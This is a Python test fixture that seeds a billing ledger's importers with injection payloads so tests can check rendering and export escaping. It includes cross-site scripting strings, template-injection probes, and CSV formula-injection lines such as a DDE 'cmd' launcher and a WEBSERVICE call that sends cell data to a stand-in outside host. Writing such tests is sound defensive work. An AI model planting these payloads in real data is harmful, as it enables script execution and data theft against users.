"""A ledger in which every text field holds something that wants to be more than text: markup, directives, formulas."""

import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime
from pathlib import Path

from sqlalchemy import select

from data_access.commands.calls import CallDraft, log_call
from data_access.commands.disputes import close_dispute, open_dispute
from data_access.commands.payments import PaymentDraft, record_payment
from data_access.database import Database
from data_access.importers.batches import accept
from data_access.importers.options import Options
from data_access.schema import invoices
from data_access.scope import Scope

EVERYTHING = Scope.all_sites()
OUTSIDE = "outside.invalid"
# {n} is the payload's number: what is shown of it must be the whole of it, as it was written.
PAYLOADS = [
    # markup
    "<script>alert(1)</script>Q{n}Q",
    "<img src=x onerror=alert(1)>Q{n}Q",
    "<svg/onload=alert(1)>Q{n}Q",
    '"><b onmouseover="alert(1)">Q{n}Q</b>',
    f"<iframe src=https://{OUTSIDE}>Q{{n}}Q</iframe>",
    "<a href='javascript:alert(1)'>Q{n}Q</a>",
    f"<style>@import 'https://{OUTSIDE}'</style>Q{{n}}Q",
    f"<img src=//{OUTSIDE}/p.png>Q{{n}}Q",
    "<details open ontoggle=alert(1)>Q{n}Q</details>",
    f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}'>Q{{n}}Q",
    "<b>Q{n}Q</b><i>x</i><br>y",
    "&lt;script&gt;Q{n}Q&#60;b&#62;&nbsp;&amp;",
    "<!--Q{n}Q--> <![CDATA[x]]>",
    # Markdown
    "[Q{n}Q](javascript:alert(1))",
    f"![Q{{n}}Q](https://{OUTSIDE}/p.png)",
    f"[Q{{n}}Q](https://{OUTSIDE})",
    f"<https://{OUTSIDE}/Q{{n}}Q>",
    f"https://{OUTSIDE}/Q{{n}}Q",
    f"www.{OUTSIDE}/Q{{n}}Q",
    f"Q{{n}}Q@{OUTSIDE}",
    "**Q{n}Q** __x__ ~~y~~ `z`",
    "# Q{n}Q",
    "- Q{n}Q",
    "1. Q{n}Q",
    "> Q{n}Q | x | y |",
    "``` Q{n}Q ```",
    "Q{n}Q -> x <- y -- z >= 1 ~= 2 (c) :-)",
    # LaTeX
    r"$\href{{javascript:alert(1)}}{{Q{n}Q}}$",
    "$$Q{n}Q$$ and \\(x\\)",
    # Streamlit's own
    ":red[Q{n}Q]",
    ":red-background[Q{n}Q] :rainbow[x]",
    ":green-badge[Q{n}Q]",
    ":material/delete: :material_add: Q{n}Q :streamlit: :smile:",
    ":small[Q{n}Q] :blue[open",
    # templates and charts
    "{{{{7*7}}}}${{7*7}}#{{x}}<%= 7*7 %>Q{n}Q",
    "{{0.__class__}} %(x)s %s%n Q{n}Q",
    "%{{y}} %{{customdata}} Q{n}Q<extra></extra>",
    # formulas
    "=1+1+Q{n}Q",
    "+1+1+Q{n}Q",
    "-1+1+Q{n}Q",
    "@SUM(1+1)+Q{n}Q",
    '=HYPERLINK("https://outside.invalid","Q{n}Q")',
    "=cmd|'/C calc'!Q{n}Q",
    '=WEBSERVICE("https://outside.invalid/"&A1)+Q{n}Q',
    "＝1+1+Q{n}Q",
    "＋1＋Q{n}Q",
    "'=1+1+Q{n}Q",
    "ID;PWXL;N;E+Q{n}Q",
    "Q{n}Q;=1+1;@x",
    '"=1+1",Q{n}Q',
    # Much at once, for the pages that show one thing only.
    f"<b>Q{{n}}Q</b>:red[x]**y**`z`$a$&lt;www.{OUTSIDE}",
]
SLASHES = str.maketrans("/\\", "∕∖")  # a file's name has none: such a name is refused
MUCH = len(PAYLOADS) - 1
# Where the last one is to be found.
ACCOUNT, BILL, PAYMENT, CALL, BATCH = "51", "51", "153", "51", "18"
ISSUED, DUE, PAID = date(2026, 9, 1), date(2026, 9, 25), date(2026, 11, 10)


def payload(number: int) -> str:
    """The text of that number; unlike any other."""
    return PAYLOADS[number].format(n=f"{number:02}")


def shown(number: int) -> str:
    """The payload as it is kept: an importer takes the guard of an export off."""
    return payload(number).removeprefix("'")


SITE = payload(MUCH)


def take(
    database: Database, kind: str, header: str, rows: Sequence[Sequence[object]], folder: Path, **options: object
) -> None:
    """Import rows as a file."""
    out = io.StringIO()
    csv.writer(out).writerows([header.split(), *rows])
    path = folder / f"{kind}.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    actor = str(options.pop("actor", "operator"))
    accept(database, actor, kind, path, Options(scope=EVERYTHING, **options))


def fill(database: Database, folder: Path) -> None:
    """A site, a vendor, an account, a service, bills, a payment, calls and a dispute for each payload, all named by it."""
    every = [(number, payload(number)) for number in range(len(PAYLOADS))]
    take(
        database,
        "sites",
        "code name region country city timezone cost_center",
        [(text[:64], text, text, "US", text, "UTC", text[:64]) for _, text in every],
        folder,
    )
    take(database, "vendors", "name website portal_url", [(text, text, text) for _, text in every], folder)
    take(
        database,
        "accounts",
        "vendor account_number site service_type currency autopay_method",
        [(text, text[:64], text[:64], text[:64], "USD", text[:64]) for _, text in every],
        folder,
    )
    terms = [(text, "2027-06-01", text, text[:64]) for _, text in every]  # in force later: no other page changes
    take(database, "policies", "vendor effective_from source service_type", terms, folder)
    take(
        database,
        "services",
        "vendor account_number service site service_type description criticality monthly_charge",
        [(text, text[:64], text, text[:64], text[:64], text, 1 + n % 5, "10.00") for n, text in every],
        folder,
    )
    take(
        database,
        "charges",
        "vendor account_number invoice_number line description amount issued_on due_on external_id",
        [(text, text[:64], text[:64], text[:64], text, f"{900 + n}.00", ISSUED, DUE, text) for n, text in every],
        folder,
        source=payload(0)[:90],
    )
    take(
        database,
        "payments",
        "vendor account_number paid_on amount posted_on method channel confirmation_number status external_id",
        [
            (text, text[:64], PAID, f"{100 + n}.00", PAID, text[:64], text[:64], text, "posted", text)
            for n, text in every
        ],
        folder,
        allocate_oldest=True,
    )
    take(
        database,
        "calls",
        "vendor account_number started_at number agent caller purpose billing_period outcome confirmation_number notes external_id follow_up_on",
        [
            (
                text,
                text[:64],
                "2026-11-11T15:00:00Z",
                text[:64],
                text,
                text,
                text,
                text[:64],
                text,
                text,
                f"{text}\n{text}",
                text,
                PAID,
            )
            for _, text in every
        ],
        folder,
    )
    take(
        database,
        "bank",
        "bank_account currency statement booked_on amount counterparty description reference",
        [(text[:64], "USD", text, PAID, f"-{100 + n}.00", text, text, text) for n, text in every],
        folder,
    )
    take(
        database,
        "usage",
        "vendor account_number service started_at kind from_number to_number quantity unit disposition uniqueid",
        [
            (text, text[:64], text, "2026-11-11T15:00:00Z", "voice", text, text, 60, text[:40], text[:64], text)
            for _, text in every
        ],
        folder,
    )
    _commands(database)
    for number, text in every:  # rejected rows, file names and who did it
        if number % 5 == 0:
            take(
                database,
                "invoices",
                "vendor account_number invoice_number issued_on amount",
                [(text, text[:64], payload(n)[:64], "2026-11-31", payload(n)) for n, _ in every],
                folder,
                actor=text,
                file_name=f"{text.translate(SLASHES)}.csv",
                source=text[:90],
            )


def _commands(database: Database) -> None:
    with database.reading(EVERYTHING) as connection:
        found = connection.execute(
            select(invoices.c.id, invoices.c.account_id, invoices.c.number).order_by(invoices.c.id)
        ).all()
    for bill in found:

        def work(writing, bill=bill):
            dispute = open_dispute(writing, EVERYTHING, bill.id, amount=100, reason=bill.number, opened_on=PAID)
            if bill.id % 2:
                close_dispute(writing, EVERYTHING, dispute, PAID, bill.number)
            draft = CallDraft(
                bill.account_id, datetime(2026, 11, 12, 15, tzinfo=UTC), agent=bill.number, notes=bill.number
            )
            payment = PaymentDraft(bill.account_id, PAID, 500, bill.number, note=bill.number, apply={bill.id: 500})
            log_call(writing, EVERYTHING, draft, payment)
            record_payment(
                writing,
                EVERYTHING,
                PaymentDraft(bill.account_id, PAID, 700, "card", channel=bill.number, note=bill.number, apply="none"),
            )

        database.writing(bill.number, EVERYTHING, work)
